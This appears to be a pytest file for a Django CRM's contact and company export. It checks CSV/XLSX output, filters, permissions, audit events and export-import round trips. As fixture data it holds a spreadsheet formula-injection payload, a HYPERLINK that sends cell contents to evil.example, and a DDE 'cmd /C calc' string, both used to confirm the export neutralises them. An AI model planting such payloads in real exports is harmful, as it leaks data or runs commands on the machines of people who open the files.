"""Export of the filtered contacts list to CSV and XLSX, and the export → import round trip."""

from __future__ import annotations

import csv
import io
from typing import Any, cast

import openpyxl
import pytest
from django.urls import reverse

from clientela.contacts.choices import CustomFieldType
from clientela.contacts.models import Contact
from clientela.contacts.tests.factories import (
    CompanyFactory,
    ContactFactory,
    CustomFieldFactory,
    TagFactory,
)
from clientela.contacts.tests.import_helpers import run, start
from clientela.timeline.models import Event

pytestmark = [pytest.mark.django_db, pytest.mark.urls("clientela.contacts.tests.import_urls")]
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def make(**values: Any) -> Contact:
    return cast(Contact, ContactFactory(**values))


@pytest.fixture
def book(personas):
    vip = TagFactory.create(name="VIP")
    acme = CompanyFactory(bare=True, name="Acme S.A.S.")
    CustomFieldFactory.create(
        key="presupuesto", label_es="Presupuesto", field_type=CustomFieldType.NUMBER
    )
    CustomFieldFactory.create(
        key="canal", label_es="Canal preferido", field_type=CustomFieldType.CHOICE,
        choices=["WhatsApp", "Correo"],
    )  # fmt: skip
    evil = make(
        first_name=PAYLOAD, last_name="+57 cmd|' /C calc'!A0", email="evil@example.co",
        owner=personas.rep, lifecycle_stage="customer", company=acme,
        custom={"presupuesto": 1500000.5, "canal": "WhatsApp"},
    )  # fmt: skip
    evil.tags.add(vip)
    make(first_name="Ana", last_name="Gómez", email="ana@example.co", owner=personas.rep,
         lifecycle_stage="lead", source="facebook")  # fmt: skip
    make(first_name="Beto", last_name="Ruiz", email="beto@example.co", owner=personas.rep2,
         lifecycle_stage="customer", custom={"canal": "Correo"})  # fmt: skip
    return {"vip": vip, "acme": acme}


def download_csv(client, **params: str) -> list[list[str]]:
    response = client.get(reverse("contacts:export"), {"format": "csv", **params})
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_it_exports_the_filtered_list_to_csv_with_formulas_neutralised(client, personas, book):
    client.force_login(personas.manager)
    rows = download_csv(client, stage="customer", sort="-name")
    header, body = rows[0], rows[1:]
    assert (
        header[:5] == ["ID", "First name", "Last name", "E-mail", "Phone"] or header[1] == "Nombre"
    )
    assert header[-2:] == ["Presupuesto", "Canal preferido"]
    emails = [r[3] for r in body]
    assert emails == ["beto@example.co", "evil@example.co"]  # filtered, by last name descending
    evil = body[1]
    assert evil[1] == "'" + PAYLOAD
    assert evil[2].startswith("'+57")
    assert evil[6] == "Acme S.A.S."
    assert evil[15] == "VIP"
    assert evil[14] == "rep@example.co"
    assert evil[-2:] == ["1500000,5", "WhatsApp"]


def test_it_honours_every_list_filter(client, personas, book):
    client.force_login(personas.admin)
    assert [r[3] for r in download_csv(client, q="gómez")[1:]] == ["ana@example.co"]
    assert [r[3] for r in download_csv(client, tag=str(book["vip"].pk))[1:]] == ["evil@example.co"]
    assert [r[3] for r in download_csv(client, owner=str(personas.rep2.pk))[1:]] == [
        "beto@example.co"
    ]
    assert [r[3] for r in download_csv(client, company=str(book["acme"].pk))[1:]] == [
        "evil@example.co"
    ]
    assert [r[3] for r in download_csv(client, source="facebook")[1:]] == ["ana@example.co"]
    assert [r[3] for r in download_csv(client, cf_canal="Correo")[1:]] == ["beto@example.co"]
    # The names from the brief work too.
    assert [r[3] for r in download_csv(client, **{"custom.canal": "Correo"})[1:]] == [
        "beto@example.co"
    ]
    assert len(download_csv(client, lifecycle_stage="lead")) == 2


def test_it_exports_xlsx_with_formulas_neutralised(client, personas, book):
    client.force_login(personas.admin)
    response = client.get(reverse("contacts:export"), {"format": "xlsx", "q": "evil"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    assert rows[1][1] == "'" + PAYLOAD
    assert rows[1][3] == "evil@example.co"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_it_only_exports_what_the_user_may_see(client, personas, book):
    role = personas.roles["servicio"]
    role.capabilities.append("contacts.export")
    role.save()
    make(first_name="Propio", email="propio@example.co", owner=personas.outsider)
    client.force_login(personas.outsider)
    assert [r[3] for r in download_csv(client)[1:]] == ["propio@example.co"]


def test_it_refuses_roles_without_the_export_capability(client, personas, book):
    for user in (personas.rep, personas.rep2, personas.colleague, personas.outsider):
        client.force_login(user)
        assert client.get(reverse("contacts:export"), {"format": "csv"}).status_code == 403
    assert not Event.objects.filter(verb="exported").exists()


def test_it_records_one_audit_event_per_export(client, personas, book):
    client.force_login(personas.marketer)
    download_csv(client, stage="customer")
    event = Event.objects.get(verb="exported")
    assert event.actor == personas.marketer
    assert event.data["rows"] == 2 and event.data["format"] == "csv"
    assert event.data["filters"]["lifecycle_stage"] == "customer"


def test_it_refuses_an_unknown_format(client, personas, book):
    client.force_login(personas.admin)
    assert client.get(reverse("contacts:export"), {"format": "pdf"}).status_code == 400


def test_it_streams_large_exports_with_a_bounded_number_of_queries(
    client, personas, django_assert_max_num_queries
):
    vip = TagFactory.create(name="VIP")
    for i in range(30):
        make(email=f"c{i}@example.co", owner=personas.admin).tags.add(vip)
    client.force_login(personas.admin)
    with django_assert_max_num_queries(14):
        rows = download_csv(client)
    assert len(rows) == 31


def test_it_imports_its_own_export_back_without_changes(client, personas, book):
    client.force_login(personas.admin)
    response = client.get(reverse("contacts:export"), {"format": "csv"})
    data = b"".join(response.streaming_content)
    job = start(personas.admin, data, "export.csv", update_existing=True)
    assert job.options["preset"] == "clientela"
    assert job.options["mapping"]["Presupuesto"] == "custom.presupuesto"
    before = list(Contact.objects.order_by("id").values())
    result = run(personas.admin, data, "export.csv", update_existing=True)
    assert (result.created, result.updated, result.unchanged, result.errors) == (0, 0, 3, [])
    assert list(Contact.objects.order_by("id").values()) == before


def test_it_round_trips_an_xlsx_export_into_an_empty_database(client, personas, book):
    client.force_login(personas.admin)
    response = client.get(reverse("contacts:export"), {"format": "xlsx"})
    data = b"".join(response.streaming_content)
    before = {
        c.email: (c.first_name, c.last_name, c.lifecycle_stage, c.custom, c.owner_id)
        for c in Contact.objects.all()
    }
    Contact.objects.all().delete()
    result = run(personas.admin, data, "export.xlsx")
    assert result.created == 3 and result.errors == []
    after = {
        c.email: (c.first_name, c.last_name, c.lifecycle_stage, c.custom, c.owner_id)
        for c in Contact.objects.all()
    }
    # The neutralising apostrophe is dropped again on import.
    assert after == before


def test_it_exports_the_filtered_companies_list(client, personas):
    from clientela.contacts.services import create_company

    create_company(actor=personas.rep, data={"name": PAYLOAD, "domain": "evil.example"})
    create_company(actor=personas.rep, data={"name": "Andes Ltda."})
    create_company(actor=personas.rep2, data={"name": "Hidden Corp"})
    role = personas.rep.role
    role.capabilities.append("contacts.export")
    role.save()
    client.force_login(personas.rep)
    response = client.get(reverse("contacts:company_export"), {"format": "csv", "q": "evil"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert len(rows) == 2  # the header and the one company the search finds
    assert rows[1][1] == "'" + PAYLOAD  # formula neutralised
    everything = client.get(reverse("contacts:company_export"), {"format": "csv"})
    text = b"".join(everything.streaming_content).decode("utf-8-sig")
    assert "Andes Ltda." in text and "Hidden Corp" not in text  # only what the rep sees
    event = Event.objects.filter(verb="exported").order_by("id").first()
    assert event is not None and event.data["entity"] == "companies"
    assert event.data["filters"]["q"] == "evil" and event.data["rows"] == 1
